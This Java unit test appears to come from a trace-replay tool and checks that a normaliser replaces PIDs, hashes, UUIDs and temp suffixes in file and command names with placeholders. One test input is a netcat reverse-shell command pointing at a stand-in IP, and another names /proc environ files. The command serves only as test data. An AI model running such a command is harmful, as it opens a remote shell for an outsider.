// SPDX-License-Identifier: Apache-2.0
// Copyright the gvtrace authors

package dev.gvtrace.replay.query.narrative;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gvtrace.text.Text;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ShapeTest {
    @ParameterizedTest
    @CsvSource({
        "/proc/4711/environ, /proc/<n>/environ",
        "/proc/self/environ, /proc/self/environ",
        "/var/cache/9f86d081884c7d659a2feaa0c55ad015, /var/cache/<hex>",
        "/run/123e4567-e89b-12d3-a456-426614174000.sock, /run/<uuid>.sock",
        "/tmp/tmp1ur9e9_8/cell0.py, /tmp/tmp<tmp>/cell0.py",
        "/tmp/agent-xr4drdb6/out.txt, /tmp/agent-<tmp>/out.txt",
        "/tmp/pymp-nzchvujz/listener, /tmp/pymp-<tmp>/listener",
        "/tmp/sess.aB3xY9, /tmp/sess.<tmp>",
        "/usr/bin/python3.11, /usr/bin/python3.11",
        "/lib/x86_64-linux-gnu/libc.so.6, /lib/x86_64-linux-gnu/libc.so.6",
        "nc 203.0.113.9 4444 -e /bin/sh, nc 203.0.113.9 4444 -e /bin/sh",
        "sleep 1795305142, sleep <n>",
        "/srv/deadbeef, /srv/deadbeef",
        "/srv/Listener, /srv/Listener"
    })
    void namesOfTwoRunsAreEqual(String name, String shape) {
        assertThat(Shape.of(Text.ofUtf8(name))).hasToString(shape);
    }
}
